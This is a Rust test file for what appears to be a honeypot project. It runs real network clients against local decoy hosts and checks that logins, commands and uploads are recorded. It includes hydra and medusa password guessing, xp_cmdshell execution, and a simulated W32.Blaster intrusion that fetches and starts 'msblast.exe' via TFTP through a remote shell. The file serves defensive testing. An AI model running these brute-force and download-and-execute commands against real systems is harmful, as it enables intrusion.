//! Real clients complete their work with decoys, on this machine's own network stack, and what they did is recorded.
//!
//! A client that is not installed is noted as skipped.

use std::io::Write;
use std::net::{Ipv4Addr, Ipv6Addr};
use std::process::{Command, Stdio};
use std::sync::Arc;

use trapline_decoy::accept::Accept;
use trapline_decoy::record::{Record, Said, Upload};
use trapline_decoy::services::Kind;
use trapline_decoy::site::Site;
use trapline_decoy::{Decoys, Host, Port, Ports, Wiring, text};
use trapline_sensor::bench::{Bench, MACHINE, MACHINE_V6, Trouble, on_a_bench};
use trapline_testing::skipped;

const HOST: Ipv4Addr = Ipv4Addr::new(10, 9, 1, 1);
const HOST_V6: Ipv6Addr = Ipv6Addr::new(0xfd09, 0, 0, 0, 0, 0, 1, 1);

/// One host of this system with these services; it fetches what it is told to from who tells it.
fn host(persona: &str, services: &[(u16, &str)]) -> Decoys {
    let kind = |name: &str| Port::Service(Kind::named(name).unwrap_or_else(|| panic!("no service {name}")));
    let tcp = services.iter().map(|(port, name)| (*port, kind(name))).collect();
    let udp = services
        .iter()
        .filter(|(_, name)| name.starts_with("netbios"))
        .map(|(port, name)| (*port, kind(name)));
    let ports = Arc::new(Ports { tcp, udp: udp.collect(), ..Ports::default() });
    let (_, persona) = text::BUILT_IN.iter().find(|(name, _)| *name == persona).unwrap();
    let persona = Arc::new(text::read(persona).unwrap());
    // A host that lets this machine in at its third password: guessing takes seconds each time.
    let third = |seed: &u64| {
        let (site, mut accept) = (Site::new(*seed, &persona.name), Accept::default());
        let mut let_in = |password: &[u8]| accept.accepts(&site, 0, MACHINE.into(), b"root", password);
        [let_in(b"1"), let_in(b"2"), let_in(b"3")] == [false, false, true]
    };
    let seed = (1..).find(third).unwrap();
    let addresses = vec![HOST.into(), HOST_V6.into()];
    let wiring = Wiring { mac: [2, 0, 0, 9, 1, 1], addresses, prefix: 16, ports, fetch: true, seed };
    Decoys::new(vec![Host::new(Arc::clone(&persona), wiring)], seed)
}

/// Runs a client with what it is to read; its output of both kinds.
fn client(program: &str, arguments: &[&str], input: &str) -> Option<String> {
    // No client needs a minute; one that hangs must not hang the test.
    let child = Command::new("timeout")
        .args(["-s", "KILL", "60", program])
        .args(arguments)
        .env("HOME", std::env::temp_dir())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn();
    let mut child = child.ok()?;
    child.stdin.take()?.write_all(input.as_bytes()).ok()?;
    let output = child.wait_with_output().ok()?;
    if output.status.code() == Some(127) {
        return None;
    }
    Some(String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned())
}

/// What a client says, and what the decoy noticed: nothing where the client or the bench is missing.
fn visit(
    services: &[(u16, &str)],
    program: &str,
    arguments: &[&str],
    input: &str,
) -> Option<(String, Vec<Record>, Vec<Upload>)> {
    visit_a("windows-98", services, program, arguments, input)
}

/// The same, to a host of this system.
fn visit_a(
    persona: &str,
    services: &[(u16, &str)],
    program: &str,
    arguments: &[&str],
    input: &str,
) -> Option<(String, Vec<Record>, Vec<Upload>)> {
    let installed = Command::new("which").arg(program).output().is_ok_and(|found| found.status.success());
    if !installed {
        skipped(program, "not installed");
        return None;
    }
    let visited = on_a_bench(Trouble::default(), |bench: &Bench| {
        bench.put(host(persona, services));
        let told = client(program, arguments, input);
        std::thread::sleep(std::time::Duration::from_millis(100));
        let mut decoys = bench.decoys();
        told.map(|told| (told, decoys.take_records(), decoys.take_uploads()))
    });
    match visited {
        Ok(visited) => visited,
        Err(why) => {
            skipped(program, &why);
            None
        }
    }
}

fn commands(records: &[Record]) -> Vec<String> {
    let line = |record: &Record| {
        if let Said::Command { line } = &record.said { Some(line.to_string()) } else { None }
    };
    records.iter().filter_map(line).collect()
}

fn logins(records: &[Record]) -> Vec<(String, String, bool)> {
    let login = |record: &Record| match &record.said {
        Said::Login { user, password, accepted } => {
            Some((user.to_string(), password.clone().unwrap_or_default().to_string(), *accepted))
        }
        _ => None,
    };
    records.iter().filter_map(login).collect()
}

#[test]
fn curl_lists_fetches_and_uploads_over_ftp_actively_and_passively() {
    for face in ["ftp/iis-4", "ftp/iis-5", "ftp/wu-ftpd-2.6.2", "ftp/vsftpd"] {
        for way in [&["--ftp-pasv"][..], &["--ftp-port", "-"], &["--ftp-pasv", "--disable-epsv"]] {
            let run = |more: &[&str]| {
                visit(&[(21, face)], "curl", &[&["-sSv"], way, more].concat(), "the payload\n")
            };
            let Some((listed, records, _)) = run(&["ftp://10.9.1.1/pub/"]) else { return };
            assert!(listed.contains("README"), "{face} {way:?}: {listed}");
            assert_eq!(logins(&records)[0].0, "anonymous");
            let Some((fetched, ..)) = run(&["ftp://10.9.1.1/pub/README"]) else { return };
            assert!(fetched.contains("Questions to webmaster"), "{face} {way:?}: {fetched}");
            let Some((told, _, uploads)) = run(&["-T", "-", "ftp://10.9.1.1/incoming/drop.bin"]) else {
                return;
            };
            assert_eq!(uploads.len(), 1, "{face} {way:?}: {told}");
            assert_eq!(uploads[0].bytes, b"the payload\n");
            assert_eq!(uploads[0].sha256, "4dc21b974cc293d0dfbb25326f0df4ac461f29d69ccc2c2dc5391f4f39a45aed");
        }
    }
}

#[test]
fn curl_and_nmap_come_over_ipv6() {
    let services = [(21, "ftp/vsftpd"), (80, "http/nginx")];
    let visit = |program: &str, arguments: &[&str]| visit_a("linux-6", &services, program, arguments, "");
    let Some((page, records, _)) = visit("curl", &["-sSv", "http://[fd09::1:1]/"]) else { return };
    assert!(page.contains("200 OK") && page.contains("Server: nginx"), "{page}");
    assert!(records.iter().all(|r| r.host == HOST_V6 && r.peer == MACHINE_V6), "{records:?}");
    for way in ["--ftp-pasv", "--ftp-port=-"] {
        let way: Vec<&str> = way.split('=').collect();
        let arguments = [&["-sSv"], &way[..], &["ftp://[fd09::1:1]/pub/README"]].concat();
        let Some((fetched, ..)) = visit("curl", &arguments) else { return };
        assert!(fetched.contains("Questions to webmaster"), "{way:?}: {fetched}");
    }
    let arguments = ["-6", "-n", "-sS", "-p", "21,22,80", "fd09::1:1"];
    let Some((scanned, ..)) = visit("nmap", &arguments) else { return };
    for line in ["21/tcp open", "22/tcp closed", "80/tcp open", "MAC Address: 02:00:00:09:01:01"] {
        assert!(scanned.contains(line), "{line}: {scanned}");
    }
}

#[test]
fn lftp_walks_the_tree() {
    for face in ["ftp/iis-4", "ftp/wu-ftpd-2.6.2", "ftp/vsftpd"] {
        let script = "set net:timeout 10; set net:max-retries 1; open ftp://10.9.1.1; cls -1 /; cat /pub/README; put /etc/hostname -o /incoming/name; bye";
        let Some((told, records, uploads)) = visit(&[(21, face)], "lftp", &["-c", script], "") else {
            return;
        };
        assert!(told.contains("incoming/") && told.contains("webmaster@"), "{face}: {told}");
        assert!(commands(&records).iter().any(|line| line.starts_with("STOR")), "{face}");
        assert_eq!(uploads.len(), 1, "{face}: {told}");
    }
}

#[test]
fn curl_reads_the_site_of_every_face() {
    for face in ["http/iis-4", "http/iis-5", "http/iis-10", "http/apache-1.3", "http/nginx"] {
        let urls =
            ["http://10.9.1.1/", "http://10.9.1.1/scripts/root.exe?/c+dir", "http://10.9.1.1/robots.txt"];
        let Some((told, records, _)) = visit(&[(80, face)], "curl", &[&["-sSv"][..], &urls].concat(), "")
        else {
            return;
        };
        assert!(told.contains("Welcome to our site") && told.contains("404"), "{face}: {told}");
        let asked = |r: &&Record| matches!(&r.said, Said::Request { target, .. } if target.0.starts_with(b"/scripts"));
        assert_eq!(records.iter().filter(asked).count(), 1, "{face}");
        let ways: [(&[&str], &str); 3] = [
            (&["-X", "SEARCH"], "SEARCH"),
            (&["--data-binary", "@-", "-H", "Expect: 100-continue"], "POST"),
            (&["-I"], "HEAD"),
        ];
        for (way, method) in ways {
            let arguments = [&["-sSv"][..], way, &["http://10.9.1.1/"]].concat();
            let Some((told, records, uploads)) = visit(&[(80, face)], "curl", &arguments, "a body") else {
                return;
            };
            let asked =
                |r: &Record| matches!(&r.said, Said::Request { method: m, .. } if m.0 == method.as_bytes());
            assert!(records.iter().any(asked), "{face} {method}: {told}");
            assert_eq!(uploads.len(), usize::from(method == "POST"), "{face} {method}");
        }
    }
}

#[test]
fn telnet_is_let_in_at_some_password() {
    for face in ["telnet/red-hat-7.3", "telnet/busybox", "telnet/camera", "telnet/windows-2000"] {
        // Whoever types waits for the prompts: a client that has read its last line hangs up.
        let script =
            "for n in 1 2 3; do sleep 0.5; echo root; sleep 0.5; echo secret$n; sleep 2.3; done; sleep 1";
        let command = format!("({script}) | telnet 10.9.1.1");
        let Some((told, records, _)) = visit(&[(23, face)], "bash", &["-c", &command], "") else { return };
        let tried = logins(&records);
        assert!(
            tried.len() >= 2 && tried[0].0 == "root" && tried[0].1 == "secret1",
            "{face}: {tried:?}\n{told}"
        );
        assert!(told.contains("ogin"), "{face}: {told}");
    }
}

#[test]
fn swaks_delivers_a_message() {
    for face in ["smtp/sendmail-8.11.6", "smtp/postfix"] {
        let arguments = [
            "--server",
            "10.9.1.1",
            "--to",
            "a@example.org",
            "--from",
            "b@example.net",
            "--body",
            "the message",
        ];
        let Some((told, records, uploads)) = visit(&[(25, face)], "swaks", &arguments, "") else { return };
        assert!(told.contains("<-  221"), "{face}: {told}");
        assert!(commands(&records).iter().any(|line| line.starts_with("RCPT TO:<a@example.org>")), "{face}");
        assert!(uploads[0].bytes.windows(11).any(|w| w == b"the message"), "{face}");
    }
}

#[test]
fn curl_asks_for_mail_and_passwords_are_recorded() {
    let services = [
        (110, "pop3/uw"),
        (143, "imap/uw"),
        (554, "rtsp/camera"),
        (3128, "http-proxy/squid-2.4"),
        (1080, "socks"),
    ];
    for url in ["pop3://10.9.1.1/", "imap://10.9.1.1/INBOX"] {
        let arguments = ["-sSv", "-u", "john:secret", url];
        let Some((told, records, _)) = visit(&services, "curl", &arguments, "") else { return };
        assert_eq!(
            logins(&records).get(..1).unwrap_or_else(|| panic!("{told} {records:?}")),
            [("john".into(), "secret".into(), false)],
            "{url}: {told}"
        );
    }
    let ways: [&[&str]; 2] =
        [&["-x", "http://joe:pw@10.9.1.1:3128"], &["-x", "socks5://joe:pw@10.9.1.1:1080"]];
    for way in ways {
        let arguments = [&["-sSv", "-m", "5"][..], way, &["http://192.0.2.99/x"]].concat();
        let Some((told, records, _)) = visit(&services, "curl", &arguments, "") else { return };
        assert_eq!(
            logins(&records).get(..1).unwrap_or_else(|| panic!("{told} {records:?}")),
            [("joe".into(), "pw".into(), false)],
            "{way:?}: {told}"
        );
    }
    let arguments = ["-loglevel", "verbose", "rtsp://admin:12345@10.9.1.1/live"];
    let Some((told, records, _)) = visit(&services, "ffprobe", &arguments, "") else { return };
    assert_eq!(logins(&records)[..1], [("admin".into(), "12345".into(), false)], "{told}");
}

#[test]
fn guessers_find_the_password_that_the_policy_lets_in() {
    let words: String = (1..=12).map(|n| format!("secret{n}\n")).collect();
    let list = std::env::temp_dir().join(format!("trapline-words-{}", std::process::id()));
    std::fs::write(&list, words).unwrap();
    let list = list.to_str().unwrap();
    // hydra's telnet loses count after its first refusal, so medusa tries there.
    let hydra = ["-t", "1", "-l", "admin", "-P", list, "-f", "ftp://10.9.1.1"];
    let medusa =
        |service: &'static str| ["-h", "10.9.1.1", "-u", "admin", "-P", list, "-t", "1", "-f", "-M", service];
    let hydra_smb = ["-t", "1", "-l", "admin", "-P", list, "-f", "smb://10.9.1.1"];
    let runs = [
        ("hydra", &hydra[..], "ftp/vsftpd", 21, "password: "),
        ("medusa", &medusa("ftp"), "ftp/wu-ftpd-2.6.2", 21, "Password: "),
        ("medusa", &medusa("smbnt"), "smb/windows-nt4", 445, "Password: "),
        ("hydra", &hydra_smb, "smb/windows-nt4", 445, "password: "),
        ("medusa", &medusa("telnet"), "telnet/busybox", 23, "Password: "),
    ];
    for (program, arguments, face, port, word) in runs {
        let Some((told, records, _)) = visit(&[(port, face)], program, arguments, "") else { continue };
        let found = logins(&records).into_iter().find(|(.., accepted)| *accepted);
        let (_, password, _) =
            found.unwrap_or_else(|| panic!("{face}: nobody was let in: {told} {records:?}"));
        // Of a proof only the guesser knows the password.
        let password = if password.contains("::") { "secret" } else { &password };
        assert!(told.contains(&format!("{word}{password}")), "{program} {face}: {told}");
    }
    let _ = std::fs::remove_file(list);
}

const WINDOWS: [(u16, &str); 6] = [
    (135, "endpoint-mapper"),
    (137, "netbios-names"),
    (139, "smb/windows-nt4"),
    (445, "smb/windows-2000"),
    (1433, "mssql"),
    (4444, "shell/windows-2000"),
];

#[test]
fn samba_lists_the_shares() {
    let old = ["--option=client min protocol=NT1", "-m", "NT1"];
    for (face, port) in [("smb/windows-nt4", "139"), ("smb/windows-2000", "445"), ("smb/windows-xp", "445")] {
        let services = [(port.parse().unwrap(), face)];
        let arguments = [&old[..], &["-N", "-p", port, "-L", "//10.9.1.1"]].concat();
        let Some((told, records, _)) = visit(&services, "smbclient", &arguments, "") else { return };
        assert!(told.contains("IPC$") && told.contains("ADMIN$"), "{face}: {told}");
        assert!(
            records.iter().any(|r| matches!(&r.said, Said::Client { name } if name.0.ends_with(b"Samba"))),
            "{face}: {records:?}"
        );
        let arguments = [
            "--option=client min protocol=NT1",
            "--option=client max protocol=NT1",
            "-U",
            "",
            "-N",
            "-p",
            port,
            "-c",
            "srvinfo; netshareenum",
            "10.9.1.1",
        ];
        let Some((told, ..)) = visit(&services, "rpcclient", &arguments, "") else { return };
        assert!(told.contains("platform_id") && told.contains("netname: IPC$"), "{face}: {told}");
    }
    let Some((told, ..)) = visit(&WINDOWS, "nmblookup", &["-A", "10.9.1.1"], "") else { return };
    assert!(told.contains("<GROUP>") && told.contains("MAC Address = 02-00-00-09-01-01"), "{told}");
}

#[test]
fn a_password_against_smb_is_recorded_as_its_proof() {
    let arguments = [
        "--option=client min protocol=NT1",
        "--option=client ntlmv2 auth=no",
        "-m",
        "NT1",
        "-U",
        "WG/bob%secret",
        "-p",
        "445",
        "//10.9.1.1/IPC$",
        "-c",
        "quit",
    ];
    let Some((told, records, _)) = visit(&WINDOWS, "smbclient", &arguments, "") else { return };
    let logins = logins(&records);
    assert!(!logins.is_empty(), "{told} {records:?}");
    assert!(logins[0].0 == "bob" && logins[0].1.starts_with("bob::") && !logins[0].2, "{logins:?} {told}");
    assert!(told.contains("LOGON_FAILURE"), "{told}");
}

#[test]
fn rpcdump_reads_the_endpoint_map() {
    const PROGRAM: &str = "/usr/share/doc/python3-impacket/examples/rpcdump.py";
    if !std::path::Path::new(PROGRAM).exists() {
        return skipped("impacket's rpcdump", "not installed");
    }
    let Some((told, ..)) = visit(&WINDOWS, "/usr/bin/python3", &[PROGRAM, "10.9.1.1"], "") else { return };
    assert!(told.contains("ncacn_ip_tcp:10.9.1.1[10") && told.contains("Received 2 endpoints"), "{told}");
}

#[test]
fn tsql_is_refused_and_let_in() {
    let arguments = ["-H", "10.9.1.1", "-p", "1433", "-U", "sa", "-P", "letmein"];
    let Some((told, records, _)) = visit(&WINDOWS, "tsql", &arguments, "select 1\ngo\nquit\n") else {
        return;
    };
    assert!(told.contains("Login failed for user 'sa'."), "{told}");
    assert_eq!(logins(&records)[0], ("sa".into(), "letmein".into(), false));
    let words = "for n in $(seq 12); do printf 'exec xp_cmdshell \"dir\"\\ngo\\nquit\\n' | tsql -H 10.9.1.1 -p 1433 -U sa -P pw$n; done";
    let Some((told, records, _)) = visit(&WINDOWS, "bash", &["-c", words], "") else { return };
    assert!(
        commands(&records).iter().any(|line| line.contains("xp_cmdshell")),
        "{told} {:?}",
        logins(&records)
    );
}

/// W32.Blaster (2003): the overflow through 135, a shell at 4444, its own file by TFTP.
#[test]
fn blaster_leaves_its_command_and_its_file() {
    let script = |decoy: Ipv4Addr, machine: Ipv4Addr| -> std::io::Result<()> {
        use std::io::Read;
        use std::net::{TcpStream, UdpSocket};
        let tftp = UdpSocket::bind((machine, 69))?;
        tftp.set_read_timeout(Some(std::time::Duration::from_secs(5)))?;
        let mut rpc = TcpStream::connect((decoy, 135))?;
        rpc.set_read_timeout(Some(std::time::Duration::from_secs(5)))?;
        let mut bind = vec![
            5, 0, 11, 3, 16, 0, 0, 0, 72, 0, 0, 0, 127, 0, 0, 0, 0xd0, 22, 0xd0, 22, 0, 0, 0, 0, 1, 0, 0, 0,
            1, 0, 1, 0,
        ];
        bind.extend([0xa0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46, 0, 0, 0, 0]);
        bind.extend([
            4, 0x5d, 0x88, 0x8a, 0xeb, 0x1c, 0xc9, 0x11, 0x9f, 0xe8, 8, 0, 0x2b, 0x10, 0x48, 0x60, 2, 0, 0, 0,
        ]);
        rpc.write_all(&bind)?;
        let mut answer = [0; 60];
        rpc.read_exact(&mut answer)?;
        assert_eq!((answer[2], &answer[36..38]), (12, &[0u8, 0][..]), "bound");
        let mut request = vec![5, 0, 0, 3, 16, 0, 0, 0, 0, 0, 0, 0, 0xe5, 0, 0, 0, 0, 0, 0, 0, 1, 0, 4, 0];
        request.extend([0x90; 1_000]);
        let length = (request.len() as u16).to_le_bytes();
        request[8..10].copy_from_slice(&length);
        rpc.write_all(&request)?;
        let mut shell = TcpStream::connect((decoy, 4444))?;
        shell.write_all(format!("tftp -i {machine} GET msblast.exe\n").as_bytes())?;
        let mut question = [0; 600];
        let (length, from) = tftp.recv_from(&mut question)?;
        assert_eq!(&question[..length], b"\0\x01msblast.exe\0octet\0");
        let transfer = UdpSocket::bind((machine, 0))?;
        transfer.set_read_timeout(Some(std::time::Duration::from_secs(5)))?;
        let file: Vec<u8> = (0..1_500u32).map(|i| i as u8).collect();
        for (block, part) in (1u16..).zip(file.chunks(512)) {
            transfer.send_to(&[&[0, 3][..], &block.to_be_bytes(), part].concat(), from)?;
            let (length, _) = transfer.recv_from(&mut question)?;
            assert_eq!(&question[..length], [&[0, 4][..], &block.to_be_bytes()].concat());
        }
        shell.write_all(b"start msblast.exe\nmsblast.exe\n")?;
        // Told to get it from somebody else, it does not.
        shell.write_all(b"tftp -i 10.9.0.99 GET other.exe\n")?;
        std::thread::sleep(std::time::Duration::from_millis(200));
        Ok(())
    };
    let done = on_a_bench(Trouble::default(), |bench| {
        bench.put(host("windows-98", &WINDOWS));
        script(HOST, MACHINE).unwrap();
        let mut decoys = bench.decoys();
        (decoys.take_records(), decoys.take_uploads())
    });
    match done {
        Err(why) => skipped("Blaster", &why),
        Ok((records, uploads)) => {
            let lines = commands(&records);
            assert_eq!(lines[..2], ["tftp -i 10.9.0.1 GET msblast.exe", "start msblast.exe"], "{records:?}");
            assert_eq!(uploads.len(), 1);
            assert_eq!(uploads[0].bytes.len(), 1_500);
            let shellcode =
                |r: &Record| matches!(&r.said, Said::Request { whole, .. } if whole.0.len() == 1_000);
            assert!(records.iter().any(shellcode), "{records:?}");
        }
    }
}

#[test]
fn openssh_is_refused_let_in_and_answered() {
    let options = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 -o PreferredAuthentications=password";
    // What a client of today must be told before it speaks with a server of 2002.
    let old = "-o HostKeyAlgorithms=+ssh-rsa -o RequiredRSASize=1024 -o KexAlgorithms=";
    let (new, red_hat) = ("ssh/openssh-9.2p1", "ssh/openssh-3.1p1");
    for (face, more) in [
        (new, String::new()),
        (new, "-m hmac-sha2-256 -c aes256-ctr".into()),
        (new, "-c aes192-ctr".into()),
        (red_hat, format!("{old}diffie-hellman-group1-sha1 -c aes128-cbc -m hmac-sha1")),
        (red_hat, format!("{old}diffie-hellman-group-exchange-sha1 -c 3des-cbc -m hmac-md5")),
        (red_hat, format!("{old}diffie-hellman-group-exchange-sha1 -c aes256-cbc -m hmac-sha1-96")),
    ] {
        let command = format!(
            "for n in $(seq 12); do sshpass -p word$n ssh {options} {more} root@10.9.1.1 'uname -a; id' && break; done"
        );
        let services = [(22, face)];
        let Some((told, records, _)) = visit(&services, "sshpass", &["-p", "x", "bash", "-c", &command], "")
        else {
            return;
        };
        assert!(
            told.contains("Permission denied")
                && told.contains(if face == new { "Debian 6.1.90" } else { "2.4.18" })
                && told.contains("uid=0(root)"),
            "{more}: {told}"
        );
        let tried = logins(&records);
        assert!(tried.len() >= 2 && tried.last().is_some_and(|(.., accepted)| *accepted), "{tried:?}");
        assert_eq!(commands(&records), ["uname -a; id"]);
        let named =
            |r: &Record| matches!(&r.said, Said::Client { name } if name.0.starts_with(b"SSH-2.0-OpenSSH"));
        assert!(records.iter().any(named));
    }
    // A shell at a terminal, typed into after it was let in.
    let command = format!(
        "for n in $(seq 12); do (sleep 4; echo w; sleep 0.3; echo exit) | sshpass -p word$n ssh -tt {options} root@10.9.1.1 && break; done"
    );
    let Some((told, records, _)) = visit(&[(22, "ssh/openssh-9.2p1")], "bash", &["-c", &command], "") else {
        return;
    };
    assert!(
        told.contains("pts/0    10.9.0.1") && commands(&records).contains(&"exit".to_owned()),
        "{told} {:?}",
        commands(&records)
    );
}
